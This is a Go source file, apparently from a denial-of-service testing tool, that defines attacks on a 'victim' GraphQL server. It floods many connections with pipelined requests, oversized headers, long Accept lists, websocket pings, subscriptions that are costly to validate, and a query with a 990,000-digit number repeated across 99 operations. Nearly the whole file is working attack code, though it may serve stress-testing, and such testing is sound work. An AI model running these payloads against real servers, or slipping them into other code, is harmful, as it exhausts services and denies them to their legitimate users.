package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// noDeadline lifts a deadline.
var noDeadline time.Time //nolint:gochecknoglobals // a constant

// pipelines sends a text on so many connections, and then further ones without waiting for answers, which are read and
// dropped.
func pipelines(connections int, first string, further func() string) func(context.Context, *victim) (string, error) {
	return func(ctx context.Context, v *victim) (string, error) {
		h := v.held()
		var everyone sync.WaitGroup
		var sent, read atomic.Int64
		for i := 0; i < connections && ctx.Err() == nil; i++ {
			conn := h.connect(ctx, first)
			if conn == nil {
				continue
			}
			everyone.Go(func() { sent.Add(sendAgain(ctx, conn, further)) })
			everyone.Go(func() {
				n, _ := io.Copy(io.Discard, conn)
				read.Add(n)
			})
		}
		<-ctx.Done()
		h.end()
		everyone.Wait()
		return fmt.Sprintf("%d MB for %d texts on %d connections", read.Load()>>20, sent.Load(), len(h.open)), nil
	}
}

// sendAgain tells how many texts were sent.
func sendAgain(ctx context.Context, conn net.Conn, further func() string) (sent int64) {
	_ = conn.SetWriteDeadline(noDeadline)
	for ; ctx.Err() == nil; sent++ {
		if _, err := io.WriteString(conn, further()); err != nil {
			break
		}
	}
	return sent
}

// always gives the same text.
func always(text string) func() string { return func() string { return text } }

const alive = "GET /healthz HTTP/1.1\r\nHost: localhost\r\n"

// Headers as long as they may be.
func manyHeaders() string { return alive + strings.Repeat("a:\r\n", 3_900) + "\r\n" }

func longAccept() string {
	body := `{"query":"{__typename}"}`
	return strings.Replace(requestText("/graphql", len(body), body), "\r\n\r\n",
		"\r\nAccept: text/event-stream;q=0"+strings.Repeat(",a", 7_500)+"\r\n\r\n", 1)
}

// opened is a socket that has begun.
func opened() string { return upgrade + message(`{"type":"connection_init"}`) }

func pings() func() string { return always(strings.Repeat(message(`{"type":"ping"}`), 100)) }

// dearDocuments are subscribed to, each of them dear to validate.
func dearDocuments() func() string {
	next := fresh("{node(id:\"x\"){" + strings.Repeat("... on Order{id}", 440) + "}}")
	var n atomic.Int64
	return func() string { return subscribe(n.Add(1), next()) }
}

// quoted has what is wrong in a document told again for each operation.
func quoted(*victim) func() operation {
	var operations strings.Builder
	for i := range 99 {
		fmt.Fprintf(&operations, "query a%d{...F}", i)
	}
	return fresh(operations.String() + "fragment F on Query{products(first:" + strings.Repeat("9", 990_000) + "){nodes{id}}}")
}
